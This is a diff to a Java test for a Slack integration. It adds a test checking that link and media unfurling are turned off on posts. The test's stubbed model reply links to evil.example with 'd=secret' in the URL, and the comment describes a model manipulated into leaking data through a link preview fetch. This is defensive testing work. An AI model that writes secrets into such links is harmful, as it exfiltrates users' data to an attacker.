@@ -433,6 +433,16 @@ class SlackTest implements ChannelContract {
         assertThat(SLACK.posts().getLast().form().get("text")).contains("*Bold* &amp;", "<https://serai.io|page>").doesNotContain("<!channel>");
     }
 
+    /** A preview is fetched without a click, and what a model was talked into writing into a link would be told by it. */
+    @Test
+    void letsSlackFetchNothingThatALinkNames() {
+        String ada = SLACK.newcomer();
+        TOWN.model().says("See [this](https://evil.example/p.png?d=secret)");
+        SLACK.says(ada, "Hello", UUID.randomUUID().toString());
+        await().until(() -> SLACK.hears(ada).size() == 1);
+        assertThat(SLACK.posts().getLast().form()).containsEntry("unfurl_links", "false").containsEntry("unfurl_media", "false");
+    }
+
     private static void push(JsonNode event) {
         pushWhole(SLACK.callback(event));
     }
